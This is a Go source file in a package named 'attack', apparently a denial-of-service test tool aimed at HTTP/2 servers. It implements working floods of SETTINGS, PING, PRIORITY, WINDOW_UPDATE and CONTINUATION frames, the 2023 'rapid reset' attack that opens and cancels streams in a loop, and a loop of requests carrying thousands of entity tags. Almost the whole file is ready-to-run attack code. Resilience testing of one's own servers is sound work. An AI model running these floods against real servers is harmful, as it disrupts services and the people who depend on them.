package attack

import (
	"bytes"
	"fmt"
	"io"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

func floodSettings(c *Conn) {
	c.startHTTP2()
	var frames bytes.Buffer
	f := http2.NewFramer(&frames, nil)
	for range 1000 {
		f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 65535})
	}
	c.flood(frames.Bytes())
}

func floodPing(c *Conn) {
	c.startHTTP2()
	var frames bytes.Buffer
	f := http2.NewFramer(&frames, nil)
	for range 1000 {
		f.WritePing(false, [8]byte{})
	}
	c.flood(frames.Bytes())
}

func floodPriority(c *Conn) {
	c.startHTTP2()
	go c.readToEnd()
	var frames bytes.Buffer
	f := http2.NewFramer(&frames, nil)
	for i := range uint32(1000) {
		f.WritePriority(2*i+1, http2.PriorityParam{StreamDep: 2*i + 3, Weight: 1})
	}
	c.flood(frames.Bytes())
}

// floodWindow opens the window of the connection by one byte at a time, and
// begins again before it is too large.
func floodWindow(c *Conn) {
	c.startHTTP2()
	go c.readToEnd()
	var frames bytes.Buffer
	f := http2.NewFramer(&frames, nil)
	for range 1000 {
		f.WriteWindowUpdate(0, 1)
	}
	c.flood(frames.Bytes())
}

// floodReset is the "rapid reset" of 2023.
func floodReset(c *Conn) {
	h := c.startHTTP2()
	go c.readToEnd()
	for h.request("GET") == nil && h.WriteRSTStream(h.stream-1, http2.ErrCodeCancel) == nil {
	}
}

func floodContinuation(c *Conn) {
	h := c.startHTTP2()
	go c.readToEnd()
	block := bytes.Clone(h.encode("GET"))
	h.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block, EndStream: true})
	var frames bytes.Buffer
	f := http2.NewFramer(&frames, nil)
	f.AllowIllegalWrites = true
	for range 1000 {
		f.WriteContinuation(1, false, nil)
	}
	c.flood(frames.Bytes())
}

// tagRequests is how many requests sendTags sends at a time.
const tagRequests = 16

// sendTags compares the state with thousands of entity tags. It sends the next
// requests when those before are answered.
func sendTags(c *Conn) {
	h := c.startHTTP2()
	var tags strings.Builder
	for i := 0; tags.Len() < 3990; i++ {
		fmt.Fprintf(&tags, "%q,", fmt.Sprint(i%10))
	}
	field := hpack.HeaderField{Name: "if-none-match", Value: strings.TrimSuffix(tags.String(), ",")}
	for {
		for range tagRequests {
			if h.request("HEAD", field, field, field) != nil {
				return
			}
		}
		if h.readResponses(tagRequests) != nil {
			return
		}
	}
}

// readResponses reads until so many streams have ended.
func (h *h2conn) readResponses(n int) error {
	h.SetReadDeadline(time.Now().Add(clientTimeout))
	for n > 0 {
		frame, err := h.ReadFrame()
		if err != nil {
			return err
		}
		switch f := frame.(type) {
		case *http2.HeadersFrame:
			if f.StreamEnded() {
				n--
			}
		case *http2.DataFrame:
			if f.StreamEnded() {
				n--
			}
		case *http2.RSTStreamFrame:
			n--
		case *http2.GoAwayFrame:
			return io.EOF
		}
	}
	return nil
}
